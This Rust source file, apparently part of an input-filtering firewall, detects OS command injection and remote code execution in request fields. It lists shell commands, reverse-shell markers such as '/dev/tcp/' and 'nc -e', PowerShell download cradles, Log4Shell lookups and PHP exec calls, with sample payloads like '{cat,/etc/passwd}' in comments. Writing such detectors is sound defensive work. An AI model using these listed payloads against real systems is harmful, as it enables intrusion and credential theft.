//! OS command injection and remote code execution.
//!
//! A command injection needs a shell separator (`;`, `|`, `&`, a line break,
//! `` ` ``, `$(`) followed by a command the shell will run. The command word is
//! read the way the shell reads it, so quoting tricks (`w'h'o'am'i`, `c\at`,
//! `ca$@t`) and `${IFS}` do not hide it; commands that need arguments count
//! only with an argument shaped like one (`-x`, `/path`, a number, a URL), so
//! "salt & pepper" or "bring your ID; id cards only" stay clean. Beside the
//! shell, the class covers code-execution payloads that carry their own
//! interpreter: Shellshock, Log4Shell lookups, PHP/Python/Java/Node exec calls.

use super::commands::{self, Word};
use super::needles::Needles;
use super::normalize::{find, trig, Normalized};

/// Commands that do damage or leak without arguments.
const BARE: &[&[u8]] = &[
    b"id",
    b"whoami",
    b"uname",
    b"pwd",
    b"ifconfig",
    b"ipconfig",
    b"hostname",
    b"systeminfo",
    b"netstat",
    b"env",
    b"printenv",
    b"ls",
    b"dir",
    b"ver",
    b"reboot",
    b"shutdown",
    b"tasklist",
    b"getuid",
    b"sh",
    b"bash",
    b"cmd",
    b"powershell",
    b"phpinfo",
];

/// Commands that count only with an argument.
const WITH_ARGS: &[&[u8]] = &[
    b"cat",
    b"more",
    b"less",
    b"head",
    b"tail",
    b"type",
    b"ping",
    b"nslookup",
    b"dig",
    b"curl",
    b"wget",
    b"nc",
    b"ncat",
    b"netcat",
    b"telnet",
    b"bash",
    b"sh",
    b"zsh",
    b"ksh",
    b"dash",
    b"python",
    b"python2",
    b"python3",
    b"perl",
    b"ruby",
    b"php",
    b"node",
    b"lua",
    b"powershell",
    b"pwsh",
    b"cmd",
    b"sleep",
    b"timeout",
    b"echo",
    b"printf",
    b"expr",
    b"rm",
    b"chmod",
    b"chown",
    b"mkdir",
    b"touch",
    b"cp",
    b"mv",
    b"kill",
    b"busybox",
    b"tftp",
    b"certutil",
    b"bitsadmin",
    b"wmic",
    b"net",
    b"find",
    b"grep",
    b"awk",
    b"sed",
    b"socat",
    b"mkfifo",
    b"base64",
    b"nohup",
    b"sudo",
    b"crontab",
    b"useradd",
    b"ssh",
    b"openssl",
    b"start",
    b"uname",
    b"ls",
    b"dir",
    b"id",
    b"whoami",
    b"xterm",
    b"get-help",
    b"get-content",
    b"invoke-expression",
    b"iex",
    b"ipconfig",
    b"ifconfig",
    b"env",
    b"usleep",
    b"run",
    b"cscript",
    b"wscript",
    b"mshta",
    b"rundll32",
];

/// Code execution that needs no shell separator.
const ANYWHERE_LIST: &[&[u8]] = &[
    b"${jndi:",
    b"${lower:",
    b"${upper:",
    b"${::-",
    b"${env:",
    b"${sys:",
    b"${java:",
    b"${base64:",
    b"${main:",
    b"${ctx:",
    b"${date:",
    b"${${",
    b"${ifs}",
    b"$ifs$",
    b"/dev/tcp/",
    b"/dev/udp/",
    b"<?php",
    b"<?=",
    b"runtime.getruntime(",
    b"java.lang.runtime",
    b"java.lang.processbuilder",
    b"new processbuilder(",
    b"__import__(",
    b"os.system(",
    b"os.popen(",
    b"subprocess.popen(",
    b"subprocess.call(",
    b"subprocess.check_output(",
    b"child_process",
    b"process.mainmodule",
    b"bash -i",
    b"bash -c ",
    b"sh -c ",
    b"cmd /c ",
    b"cmd.exe /c",
    b"cmd.exe",
    b"powershell -",
    b"powershell.exe",
    b"nc -e ",
    b"ncat -e ",
    b"/bin/sh",
    b"/bin/bash",
    b"xp_cmdshell",
    b"/usr/bin/id",
    b"/bin/cat ",
    b"/bin/ls",
    b"/usr/bin/whoami",
    // Perl's interpolated block runs code inside a string (`@{[system "id"]}`);
    // Ruby's process calls.
    b"@{[",
    b"io.popen(",
    b"kernel.exec(",
    b"kernel.system(",
    b"kernel.spawn(",
    b"open3.popen",
    b"open3.capture",
    // PowerShell download cradles and launch switches (`IEX(New-Object
    // Net.WebClient).DownloadString(..)`, `-ExecutionPolicy Bypass`).
    b"net.webclient",
    b".downloadstring(",
    b".downloadfile(",
    b"iex(",
    b"frombase64string(",
    b"-executionpolicy bypass",
    b"-encodedcommand ",
    b"-windowstyle hidden",
];

/// [`ANYWHERE_LIST`] for a part of the value ([`deglobbed`]); the whole
/// window meets it in `code.rs`'s one pass.
const ANYWHERE: Needles = Needles::new(ANYWHERE_LIST);

/// PHP and other interpreter functions that run commands, when called with a
/// quoted, variable or empty argument.
const EXEC_CALLS: &[&[u8]] = &[
    b"system(",
    b"passthru(",
    b"shell_exec(",
    b"exec(",
    b"popen(",
    b"proc_open(",
    b"pcntl_exec(",
    b"assert(",
    b"eval(",
    b"phpinfo(",
    b"call_user_func(",
    b"create_function(",
    b"base64_decode(",
    b"file_put_contents(",
    b"fwrite(",
    b"include(",
    b"require(",
];

/// The needle lists of this file that `code.rs` steps its one automaton
/// over with its own anchors (one pass over the window instead of one per
/// list): each needle found is handed to [`listed`] with its list.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub(super) enum Listed {
    Anywhere,
    ExecCall,
    CodeCall,
    JavaGadget,
    PhpAnywhere,
    PhpWrapper,
    PhpOnly,
}

pub(super) const LISTED: &[(&[&[u8]], Listed)] = &[
    (ANYWHERE_LIST, Listed::Anywhere),
    (EXEC_CALLS, Listed::ExecCall),
    (CODE_CALLS, Listed::CodeCall),
    (JAVA_GADGETS, Listed::JavaGadget),
    (PHP_ANYWHERE, Listed::PhpAnywhere),
    (PHP_WRAPPERS, Listed::PhpWrapper),
    (PHP_ONLY, Listed::PhpOnly),
];

/// The rule of a needle of [`LISTED`] found at `at`, behind the trigger
/// gate its check had when each list made a pass of its own.
pub(super) fn listed(n: &Normalized, list: Listed, needle: &[u8], at: usize) -> bool {
    let s = n.text;
    match list {
        Listed::Anywhere => n.has(
            trig::DOLLAR | trig::SLASH | trig::LT | trig::SPACE | trig::PIPE_AMP | trig::PAREN,
        ),
        Listed::ExecCall => n.has(trig::PAREN) && exec_call_at(s, needle, at),
        Listed::CodeCall => {
            n.has(trig::PAREN)
                && (n.has(trig::QUOTE) || s.first() == Some(&b';') || n.has(trig::SEMI))
                && code_call_at(s, at)
        }
        Listed::JavaGadget => n.has(trig::DOT),
        Listed::PhpAnywhere => n.has(
            trig::DOLLAR
                | trig::LT
                | trig::BRACE
                | trig::COLON
                | trig::PAREN
                | trig::DOT
                | trig::SLASH,
        ),
        Listed::PhpWrapper => n.has(trig::COLON),
        Listed::PhpOnly => {
            n.has(trig::PAREN | trig::EQ | trig::SEMI | trig::BRACE) && php_only_at(s, needle, at)
        }
    }
}

pub fn detect(n: &Normalized) -> bool {
    if detect_view(n) {
        return true;
    }
    // A field that ends with a line break (a form body or a text area
    // typed up to Enter; the normaliser keeps one): the line the shell or
    // the interpreter reads ends there, so what ends the value in the
    // rules below (`\ls`, `~+5`, `exec (x)`, base64 of a script) is read
    // again without it. Other fields pay one byte test.
    match n.text {
        [rest @ .., b'\n'] if !rest.is_empty() => detect_view(&Normalized {
            text: rest,
            triggers: n.triggers,
            hid_markup: n.hid_markup,
            char_refs: n.char_refs,
        }),
        _ => false,
    }
}

fn detect_view(n: &Normalized) -> bool {
    let s = n.text;
    // The needle lists (`LISTED`) are met in `code::detect`'s pass below.
    if n.has(trig::PAREN) && shellshock(s) {
        return true;
    }
    // Base64 of `<?php` (`data:;base64,PD9waHA...`), lowercased here.
    if find(s, b"pd9waha").is_some() {
        return true;
    }
    if n.has(trig::PAREN)
        && (n.has(trig::QUOTE) || s.first() == Some(&b';') || n.has(trig::SEMI))
        && preg_eval(s)
    {
        return true;
    }
    if n.has(
        trig::SEMI
            | trig::PIPE_AMP
            | trig::NEWLINE
            | trig::QUOTE
            | trig::DOLLAR
            | trig::BRACE
            | trig::LT,
    ) && separators(s)
    {
        return true;
    }
    // `$` and cmd.exe's `^` too: a program word spelled with them alone
    // (`i$@d`, `h^o^s^t^n^a^m^e`, see [`shell_spelled`]).
    if (n.has(
        trig::SPACE
            | trig::SEMI
            | trig::PIPE_AMP
            | trig::NEWLINE
            | trig::QUOTE
            | trig::SLASH
            | trig::DOLLAR,
    ) || memchr::memchr(b'^', s).is_some())
        && (command_line(s) || windows_batch(s) || cmd_reading(s))
    {
        return true;
    }
    // `$ifconfig` alone, `>(id)`: what the gates above do not open for.
    if s.first() == Some(&b'$') && command_line(s)
        || n.has(trig::PAREN) && find(s, b">(").is_some() && separators(s)
    {
        return true;
    }
    if n.has(trig::DOT) && java_class(s) {
        return true;
    }
    if n.has(
        trig::DOLLAR | trig::LT | trig::BRACE | trig::COLON | trig::PAREN | trig::DOT | trig::SLASH,
    ) && php_code(s)
    {
        return true;
    }
    if n.has(trig::DOLLAR) && shell_expansion(s) {
        return true;
    }
    if n.has(trig::BRACE) && (deglobbed(s) || brace_word(s)) {
        return true;
    }
    if n.has(trig::SLASH) && (bin_path(s) || glob_command(s, 0, false) || bin_path_in(s)) {
        return true;
    }
    if n.has(trig::DOLLAR) && superglobal_alone(s) {
        return true;
    }
    if n.has(trig::PAREN) && n.has(trig::BRACE) && fork_bomb(s) {
        return true;
    }
    // One byte decides (`~`, `!`, `\\` first): free for every other field.
    if matches!(s.first(), Some(b'~' | b'!' | b'\\')) && interactive_shell(s) {
        return true;
    }
    if n.has(trig::DOLLAR)
        && n.has(trig::BRACE)
        && n.has(trig::SPACE)
        && spaced_variable_variable(s)
    {
        return true;
    }
    if n.has(trig::SPACE) && (admin_command(s) || sqlite_shell(s)) {
        return true;
    }
    if n.has(trig::PERCENT_AT) && cmd_variable(s) {
        return true;
    }
    if n.has(trig::COLON) && php_data_wrapper(s) {
        return true;
    }
    if n.has(trig::QUOTE) && php_include(s) {
        return true;
    }
    if n.has(trig::EQ) && php_ini(s) {
        return true;
    }
    if n.has(trig::PAREN) && quoted_name_call(s) {
        return true;
    }
    if n.has(trig::TRAILING_SPACE) && awaiting_arguments(s) {
        return true;
    }
    if n.has(trig::SLASH) && cmd_arithmetic(s) {
        return true;
    }
    if s.starts_with(b"sleep ") && s.len() <= 10 && s[6..].iter().all(u8::is_ascii_digit) {
        // A delay probe (blind injection): the whole value is `sleep N`.
        return true;
    }
    if delay_or_echo(s)
        || java_serialized(s)
        || ansi_c_word(s)
        || powershell_env(s)
        || process_substitution(s)
    {
        return true;
    }
    if n.has(trig::PAREN) && n.has(trig::QUOTE) && (concatenated_call(s) || computed_call(s)) {
        return true;
    }
    if n.has(trig::PAREN) && n.has(trig::DOT) && joined_name_call(s) {
        return true;
    }
    super::code::detect(n)
        || s.starts_with(b"xyqktkrfrlvoqyqk")
        || s.starts_with(b"while(")
        || s.starts_with(b"for(;;)")
        || (s.starts_with(b"function()")
            && find(&s[..s.len().min(40)], b")").is_some_and(|p| {
                matches!(s.get(p + 1..p + 3), Some(b"{" | b" {")) || s.get(p + 1) == Some(&b'{')
            }))
}

/// A command word that ends the value and was followed by spaces the
/// normaliser dropped (`whoami `, `x;wget `, `|python `): a command line
/// typed up to its arguments, the shape of a direct command injection
/// "with a trailing space" (CRS 932250/932260). A program that is no
/// ordinary word counts alone or after any separator; an ordinary word
/// (`python`, `ls`) only after a strong separator or a single token
/// (`x;python `), never alone (a search box sends "python " as it is typed)
/// nor after prose ("I love python ").
fn awaiting_arguments(s: &[u8]) -> bool {
    let start = s
        .iter()
        .rposition(|&b| matches!(b, b' ' | b';' | b'|' | b'&' | b'\n' | b'`' | b'('))
        .map_or(0, |p| p + 1);
    let mut word = [0u8; 24];
    let Some((len, j)) = read_word(s, start, &mut word) else {
        return false;
    };
    let Some(kind) = commands::lookup(&word[..len]).filter(|_| j == s.len()) else {
        return false;
    };
    let mut k = start;
    while k > 0 && s[k - 1] == b' ' {
        k -= 1;
    }
    let before = &s[..k];
    // Quotes the value opens with close the application's string.
    if before.iter().all(|&b| b == b'\'' || b == b'"') {
        return kind == Word::Program;
    }
    let sep = before[before.len() - 1];
    let strong = matches!(sep, b'|' | b'`')
        || before.ends_with(b"&&")
        || before.ends_with(b"$(")
        || before[..before.len() - 1]
            .iter()
            .all(|&b| b == b'\'' || b == b'"');
    // One token before the separator (`x;python `; `java;python;ruby ` is
    // a list).
    let token = !before[..before.len() - 1]
        .iter()
        .any(|&b| matches!(b, b' ' | b';' | b'|' | b'&' | b'\n'));
    match sep {
        b';' | b'|' | b'&' | b'\n' | b'`' => kind == Word::Program || strong || token,
        b'(' => before.ends_with(b"$(") && (kind == Word::Program || strong),
        _ => false,
    }
}

/// cmd's arithmetic `set /a 3482*7301`, `set /a x=1+2` (at the value start
/// or after a separator): an operator between operands, which "set /a
/// budget" has not.
fn cmd_arithmetic(s: &[u8]) -> bool {
    let Some(p) = find(s, b"set /a ") else {
        return false;
    };
    let before = s[..p].iter().rev().find(|&&b| b != b' ').copied();
    if !matches!(
        before,
        None | Some(b';' | b'|' | b'&' | b'\n' | b'(' | b'`')
    ) {
        return false;
    }
    let e = &s[p + 7..s.len().min(p + 7 + 64)];
    let len = e
        .iter()
        .take_while(|&&b| {
            b.is_ascii_alphanumeric()
                || matches!(
                    b,
                    b'_' | b'+' | b'-' | b'*' | b'/' | b'%' | b'=' | b'(' | b')'
                )
        })
        .count();
    e[..len].windows(3).any(|w| {
        w[0].is_ascii_alphanumeric()
            && matches!(w[1], b'+' | b'-' | b'*' | b'/' | b'%' | b'=')
            && (w[2].is_ascii_alphanumeric() || w[2] == b'(')
    })
}

/// `() { :; };` at the start of a value (CGI environment).
fn shellshock(s: &[u8]) -> bool {
    s.starts_with(b"() {") || s.starts_with(b"(){")
}

/// Functions a PHP or JavaScript code injection calls right after breaking
/// out of a string or statement (`';exit(0);//`, `".print_r(1)."`).
const CODE_CALLS: &[&[u8]] = &[
    b"exit(",
    b"die(",
    b"print_r(",
    b"var_dump(",
    b"readfile(",
    b"file_get_contents(",
    b"highlight_file(",
    b"show_source(",
    b"phpversion(",
    b"md5(",
    b"sleep(",
    b"usleep(",
    b"system(",
    b"passthru(",
    b"shell_exec(",
    b"exec(",
    b"popen(",
    b"proc_open(",
    b"assert(",
    b"eval(",
    b"phpinfo(",
    b"require(",
    b"include(",
    b"require_once(",
    b"include_once(",
    b"base64_decode(",
    b"str_rot13(",
    b"gzinflate(",
    b"create_function(",
    b"call_user_func(",
    b"call_user_func_array(",
    b"array_map(",
    b"usort(",
    b"settimeout(",
    b"process.exit(",
    b"require('child_process')",
];

/// A call of [`CODE_CALLS`] at `at` placed where code, not text, continues:
/// after a statement end or a quote (`';exit(0);//`), or concatenated to a
/// string (`".system('id')."`).
fn code_call_at(s: &[u8], at: usize) -> bool {
    if s.get(at.wrapping_sub(1))
        .is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_')
    {
        return false;
    }
    let mut k = at;
    while k > 0 && s[k - 1] == b' ' {
        k -= 1;
    }
    match k.checked_sub(1).map(|i| s[i]) {
        // `';exit(`, `");die(`: a statement ended right after a string or
        // call closed (`It's late; exit(now)` is prose).
        // A value that starts with a statement end, or one bare token
        // before it (`a;exit(md5(...));//`), is code too.
        Some(b';') => {
            let mut j = k - 1;
            while j > 0 && s[j - 1] == b' ' {
                j -= 1;
            }
            j == 0
                || matches!(s[j - 1], b'\'' | b'"' | b')')
                // Read backwards: the scan stops at the nearest byte that
                // is no name byte, so hits read disjoint runs (a field of
                // a long name and then `;exit(` repeated reads the name
                // once, not once per hit).
                || s[..j]
                    .iter()
                    .rev()
                    .all(|b| b.is_ascii_alphanumeric() || *b == b'_')
        }
        // Or to the application's string from the value's start
        // (`.system('id')`: PHP's `"abc".system('id')` once inserted).
        Some(b'.') => k == 1 || k >= 2 && matches!(s[k - 2], b'\'' | b'"'),
        // After a `:` opening the value (`:phpversion();`: the call as the
        // other branch of a ternary or after a label).
        Some(b':') => k == 1,
        _ => false,
    }
}

/// `preg_replace('/x/e', ...)`: the `e` modifier evaluates the replacement.
fn preg_eval(s: &[u8]) -> bool {
    let Some(p) = find(s, b"preg_replace(") else {
        return false;
    };
    let args = &s[p..s.len().min(p + 120)];
    find(args, b"/e'").is_some() || find(args, b"/e\"").is_some()
}

/// A call of [`EXEC_CALLS`] (`f`) at `at` with a quoted, variable or
/// empty argument, or a decoder's output.
fn exec_call_at(s: &[u8], f: &[u8], at: usize) -> bool {
    let before = s.get(at.wrapping_sub(1)).copied();
    // `os.system(` is listed on its own; `mysystem(` or `.exec(` on
    // regexes are other functions.
    if before.is_some_and(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'.') {
        return false;
    }
    let rest = s.get(at + f.len()..).unwrap_or(&[]);
    // `require('fs')`, `require("express")`: Node.js loading a module
    // by name (code snippets in comments); PHP includes a file, whose
    // name has a dot, a slash or a scheme.
    if matches!(f, b"require(" | b"include(") {
        if let [q @ (b'\'' | b'"' | b'`'), name @ ..] = rest {
            let module = name.iter().take(64).position(|b| b == q).is_some_and(|e| {
                name[..e]
                    .iter()
                    .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'@'))
            });
            if module {
                return false;
            }
        }
    }
    matches!(rest.first(), Some(b'\'' | b'"' | b'$' | b'`' | b')'))
        || [
            b"base64_decode(" as &[u8],
            b"chr(",
            b"atob(",
            b"unescape(",
            b"string.fromcharcode(",
            b"buffer.from(",
            b"decodeuricomponent(",
            b"gzinflate(",
            b"str_rot13(",
            b"hex2bin(",
        ]
        .iter()
        .any(|d| rest.starts_with(d))
}

/// The bytes [`separators`] acts on: separators, the `\` of a written-out
/// `\n`, and the openers of substitutions and brace expansions.
const SEPARATOR_START: [bool; 256] = {
    let mut t = [false; 256];
    let mut k = 0;
    let bytes = b"{`&;\n\\|$<>";
    while k < bytes.len() {
        t[bytes[k] as usize] = true;
        k += 1;
    }
    t
};

/// Every separator followed by a command.
fn separators(s: &[u8]) -> bool {
    let mut i = 0;
    let mut backticks = 0;
    // Before the first space the value is one token (`127.0.0.1;id`,
    // `x|ls`): a separator there is not punctuation in prose.
    let first_space = s.iter().position(|&b| b == b' ').unwrap_or(s.len());
    // Quotes and spaces the value opens with (read once: linear).
    let opening = s
        .iter()
        .take_while(|&&c| matches!(c, b'\'' | b'"' | b' '))
        .count();
    // A first token that is no word (`127.0.0.1`, `a.txt`): a backtick
    // pair right after it is a substitution on an argument, not a code span.
    let argument_first = !s[opening..first_space.max(opening)]
        .iter()
        .all(u8::is_ascii_alphabetic);
    // The next `,` at or after a position, found again only once passed:
    // a brace expansion (`{cat,/etc/passwd}`, `{,id}`) needs one within the
    // word after `{`, so a field of `{` without (`${a:${a:...`) reads no word.
    let mut comma = 0usize;
    // Where a leading `cd DIR` ends (spaces after it skipped), if it does.
    let cd_end = match s.strip_prefix(b"cd ") {
        Some(rest) => {
            let dir = rest
                .iter()
                .take(128)
                .take_while(|&&b| !matches!(b, b' ' | b';' | b'|' | b'&' | b'\n'))
                .count();
            let spaces = rest[dir..].iter().take_while(|&&b| b == b' ').count();
            if dir > 0 {
                3 + dir + spaces
            } else {
                usize::MAX
            }
        }
        None => usize::MAX,
    };
    while i < s.len() {
        // Most bytes open nothing: one table load each to the next that may.
        match s[i..].iter().position(|&b| SEPARATOR_START[usize::from(b)]) {
            Some(p) => i += p,
            None => break,
        }
        let b = s[i];
        if b == b'{' && !matches!(s.get(i + 1), Some(b' ' | b'\n' | b'(' | b'!' | b'`')) {
            if comma <= i {
                comma = memchr::memchr(b',', &s[i + 1..]).map_or(usize::MAX, |p| i + 1 + p);
            }
            // The word is read from `i + 1` for at most 64 bytes, and the
            // comma follows it or opens it.
            if comma > i + 66 {
                i += 1;
                continue;
            }
        }
        if b == b'`' {
            backticks += 1;
            // A markdown code span or fenced block (opened after a space or
            // at a line start, closed later) is text about commands, not a
            // substitution: skip it whole.
            let after_argument = argument_first && i == first_space + 1;
            if backticks % 2 == 1 && !backtick_opens(s, i) && !after_argument {
                if let Some(close) = s[i + 1..].iter().position(|&c| c == b'`') {
                    i += close + 2;
                    backticks += 1;
                    continue;
                }
            }
            if backticks % 2 == 0 {
                i += 1;
                continue;
            }
        }
        let (start, strong) = match b {
            b'&' if s.get(i + 1) == Some(&b'&') => (i + 2, true),
            b';' | b'&' | b'\n' => (i + 1, false),
            // A line break written as `\n` (payload lists, JSON-ish text).
            b'\\' if s.get(i + 1) == Some(&b'n') => (i + 2, false),
            b'|' => (i + 1, true),
            b'`' => (
                i + 1,
                backtick_opens(s, i) || (argument_first && i == first_space + 1),
            ),
            b'$' if s.get(i + 1) == Some(&b'(') => (i + 2, true),
            // Process substitution `<(cat file)`.
            b'<' | b'>' if s.get(i + 1) == Some(&b'(') => (i + 2, true),
            b'{' => (i + 1, false),
            _ => {
                i += 1;
                continue;
            }
        };
        if b == b'`' && !strong {
            i += 1;
            continue;
        }
        let start = if matches!(s.get(start), Some(b'|' | b'&')) {
            start + 1
        } else {
            start
        };
        if plain_non_command(s, start) {
            i += 1;
            continue;
        }
        // `... | sh`: a shell reading the pipe runs what the left side
        // prints, so it is an attack only when a command feeds it (not
        // prose: "to install run curl -fsSL https://x/i.sh | sh").
        if b == b'|'
            && s.get(i + 1) != Some(&b'|')
            && s.get(i.wrapping_sub(1)) != Some(&b'|')
            && shell_reads_stdin(s, start)
            && fed_by_prose(s, i)
        {
            i += 1;
            continue;
        }
        // A value that opens with a separator (`;id`, `';htop'`) is not text,
        // nor one that opens with `cd` and a directory before it (`cd
        // /etc && cat passwd`, `cd /;cd etc;fold passwd`): a command list.
        // So does a `;` right after a `/` (`/api/x/;echo x`: a path
        // segment that opens with a separator; a matrix parameter,
        // `/x;jsessionid=..`, follows a name, and names no program).
        let opens = i <= opening || i == cd_end || (b == b';' && i > 0 && s[i - 1] == b'/');
        let context = Context {
            strong: strong || opens,
            token: i < first_space,
            // `;`, `&`, `&&`, `` ` ``, `$(` opening the value (not a line
            // break or a pipe: text and Markdown tables start so).
            opens: opens && !matches!(b, b'\n' | b'|' | b'\\' | b'{'),
            pipe: b == b'|' && s.get(i + 1) != Some(&b'|'),
        };
        if command_at(s, start, context, b == b'{') {
            return true;
        }
        i += 1;
    }
    false
}

/// Whether the word at `i` (after spaces, `(` and `!`) is plainly no
/// program: no word at all (the next separator, a closer, an operator), or
/// letters, digits, `_` and `-` up to a byte the shell does not read into a
/// word, and no name of the program list. [`command_at`] would read the
/// same word and reject it after its other checks, none of which can fire
/// on such a word (they need `/`, `$`, `.`, `=` or quotes): a field of
/// separators before ordinary words (`;a|;a|...`, `$((a `) costs one short
/// read and at most one lookup per separator.
fn plain_non_command(s: &[u8], mut i: usize) -> bool {
    while matches!(s.get(i), Some(b' ' | b'(' | b'!')) {
        i += 1;
    }
    match s.get(i) {
        // Nothing, or a byte no reading of a command starts with (the
        // next separator, a closer, an operator).
        None
        | Some(
            b';' | b'|' | b'&' | b')' | b'<' | b'>' | b'}' | b']' | b'#' | b'=' | b'*' | b'?'
            | b'[' | b'%' | b'@' | b'+',
        ) => return true,
        Some(b) if !b.is_ascii_lowercase() => return false,
        _ => {}
    }
    let len = s[i..]
        .iter()
        .take(25)
        .take_while(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || matches!(b, b'_' | b'-'))
        .count();
    let plain_end = !matches!(
        s.get(i + len),
        Some(b'\'' | b'"' | b'\\' | b'^' | b'$' | b'`' | b'/' | b':' | b'.' | b'=' | b'{')
    ) && !matches!(s.get(i + len + 1..i + len + 3), Some(b"()"))
        // An option after the word: [`unlisted_with_option`] reads it.
        && !matches!(s.get(i + len..i + len + 2), Some(b" -"))
        // A shell conditional: [`shell_if`] reads it.
        && (&s[i..i + len] != b"if" || s.get(i + 2) != Some(&b' '));
    // A version suffix (`python3`) is stripped by `read_word`: not plain.
    len <= 24
        && plain_end
        && !s[i + len - 1].is_ascii_digit()
        && commands::lookup(&s[i..i + len]).is_none()
}

/// Shells that run a script read from their standard input.
const SHELLS: &[&[u8]] = &[
    b"sh", b"bash", b"zsh", b"ksh", b"dash", b"ash", b"csh", b"tcsh",
];

/// A shell at `i` that reads its script from the pipe: no argument but
/// options (`| sh`, `|bash -s`, `| sh -x;`).
fn shell_reads_stdin(s: &[u8], i: usize) -> bool {
    let mut word = [0u8; 24];
    let i = i + s[i.min(s.len())..]
        .iter()
        .take_while(|&&b| b == b' ')
        .count();
    let Some((len, mut j)) = read_word(s, i, &mut word) else {
        return false;
    };
    if !SHELLS.contains(&&word[..len]) {
        return false;
    }
    loop {
        match s.get(j) {
            Some(b' ') if s.get(j + 1) == Some(&b'-') => {
                j += 2;
                j += s[j..]
                    .iter()
                    .take_while(|b| b.is_ascii_alphabetic())
                    .count();
            }
            next => return ends_command(next.copied()) || next == Some(&b' '),
        }
    }
}

/// Whether the left side of the pipe at `p` is prose: it starts (after the
/// value start or the last separator) with a word that is no program and
/// holds three words or more, so nothing the shell runs feeds the pipe.
fn fed_by_prose(s: &[u8], p: usize) -> bool {
    let lo = p.saturating_sub(256);
    let from = s[lo..p]
        .iter()
        .rposition(|&b| matches!(b, b';' | b'|' | b'&' | b'\n' | b'`' | b'(' | b'{'))
        .map_or(if lo == 0 { 0 } else { p }, |k| lo + k + 1);
    let segment = &s[from..p];
    let words = segment
        .split(|&b| b == b' ')
        .filter(|w| !w.is_empty())
        .count();
    let start = from + segment.iter().take_while(|&&b| b == b' ').count();
    let mut word = [0u8; 24];
    words >= 3
        && read_word(s, start, &mut word)
            .is_none_or(|(len, _)| commands::lookup(&word[..len]).is_none())
}

/// How sure the position before a command word is a shell separator.
#[derive(Clone, Copy)]
struct Context {
    /// `|`, `&&`, `` ` ``, `$(`, or a separator opening the value.
    strong: bool,
    /// The separator follows a single token (`x;ls -la`).
    token: bool,
    /// The separator opens the value: any word after the program is an
    /// argument (`;ps aux`, `';which python`, `&&tar cf x.tar /etc`).
    opens: bool,
    /// A single `|`.
    pipe: bool,
}

/// A backtick substitutes a command unless it opens a markdown code span in
/// prose (preceded by a space).
fn backtick_opens(s: &[u8], i: usize) -> bool {
    i == 0 || !matches!(s.get(i - 1), Some(b' ' | b'\n' | b'`' | b'('))
}

/// Reads a command word at `i` like the shell would; returns whether it is a
/// command with a plausible argument.
fn command_at(s: &[u8], mut i: usize, context: Context, brace: bool) -> bool {
    while matches!(s.get(i), Some(b' ' | b'\n' | b'(' | b'!' | b'`'))
        || (brace && s.get(i) == Some(&b','))
    {
        // A markdown fence (```` ```bash ````) opens a code block: its info
        // string names a language, not a command.
        if s.get(i..i + 3) == Some(b"```") {
            return false;
        }
        i += 1;
    }
    // In a brace expansion the word ends at its comma
    // (`{,/?s?/?i?/c?t,/e??/p??s??,}`).
    if glob_command(s, i, brace) {
        return true;
    }
    if !brace
        && (context.strong || context.token)
        && (assigned_variable_run(s, i) || context.strong && dot_source(s, i))
    {
        return true;
    }
    if !brace && context.strong {
        // `;$ifconfig`: a program's name expanded as the command.
        if s.get(i) == Some(&b'$') && expanded_program(s, i + 1) {
            return true;
        }
        // `;VAR=xyz ifconfig`: assignments before the command word.
        // (Two at most; the inner call sees no third, so it recurses no
        // further.)
        if let Some(e) = assignment(s, i).map(|e| assignment(s, e).unwrap_or(e)) {
            return assignment(s, e).is_none() && command_at(s, e, context, false);
        }
        // `;$a cat x`, `;$@ id`: a word that expands to nothing before the
        // command, which the shell drops (one such word; the inner call
        // starts at a program word or gives up).
        if s.get(i) == Some(&b'$') {
            if let Some(e) = empty_expansion(s, i) {
                if s.get(e) == Some(&b' ') && s.get(e + 1) != Some(&b'$') {
                    return command_at(s, e + 1, context, false);
                }
            }
        }
    }
    if !brace && context.strong && shell_if(s, i) {
        return true;
    }
    let mut word = [0u8; 24];
    let Some((len, j)) = read_word(s, i, &mut word) else {
        return false;
    };
    let w = &word[..len];
    // Every command of the short lists is in the long one: a word that is
    // not costs one lookup (a field of `;a|;a|...` stays cheap).
    if commands::lookup(w).is_none() {
        // A separator that opens the value, then a word and an option
        // (`;perf --version`, `;uconv -f utf-8 ...`): a command line,
        // whichever program it names; no value opens so with text.
        return !brace && context.opens && unlisted_with_option(s, i, w, j);
    }
    if !brace && glued_argument(s, j) {
        return true;
    }
    if known_command(s, w, (i, j), context.strong, brace) {
        return true;
    }
    !brace && program(s, w, j, context)
}

/// A value that is one process substitution (`<(lorem)`, `>(tee x)`,
/// session 12, CRS 932130's shapes): Bash's own syntax, a command whose
/// output or input becomes a file; the word inside starts with a letter
/// and the `)` ends the value, within 128 bytes. ">(angry face" passes.
fn process_substitution(s: &[u8]) -> bool {
    let Some(rest) = s.strip_prefix(b"<(").or_else(|| s.strip_prefix(b">(")) else {
        return false;
    };
    rest.first().is_some_and(u8::is_ascii_alphabetic)
        && rest.len() <= 128
        && rest.ends_with(b")")
        && !rest[..rest.len() - 1].contains(&b')')
}

/// The whole value is cmd.exe's delay, `timeout /t N` (the Windows form of
/// the `sleep N` probe), or `echo` of one shell variable (`echo $BASH_VERSION`,
/// `echo ${HOME}`: what a tool prints to see whether the shell expands it).
/// "timeout 30 seconds", "echo $5 off" pass.
fn delay_or_echo(s: &[u8]) -> bool {
    // `'sleep 50'`, `"sleep 5"`: the delay probe quoted whole.
    if let [q @ (b'\'' | b'"'), inner @ .., last] = s {
        if last == q {
            if let Some(n) = inner.strip_prefix(b"sleep ") {
                return !n.is_empty() && n.len() <= 4 && n.iter().all(u8::is_ascii_digit);
            }
        }
    }
    // Classic ASP's output call as the statement the value opens with
    // (`response.write 111111`, `:response.write("x")`): the probe of
    // ASP code injection. "response.write is deprecated" passes.
    let asp = s.strip_prefix(b":").unwrap_or(s);
    if let Some(rest) = asp.strip_prefix(b"response.write") {
        return match rest {
            [b'(', ..] => true,
            [b' ', c, ..] => c.is_ascii_digit() || matches!(c, b'"' | b'\'' | b'('),
            _ => false,
        };
    }
    if let Some(n) = s.strip_prefix(b"timeout /t ") {
        return !n.is_empty() && n.len() <= 4 && n.iter().all(u8::is_ascii_digit);
    }
    let Some(v) = s.strip_prefix(b"echo $") else {
        return false;
    };
    let v = v
        .strip_prefix(b"{")
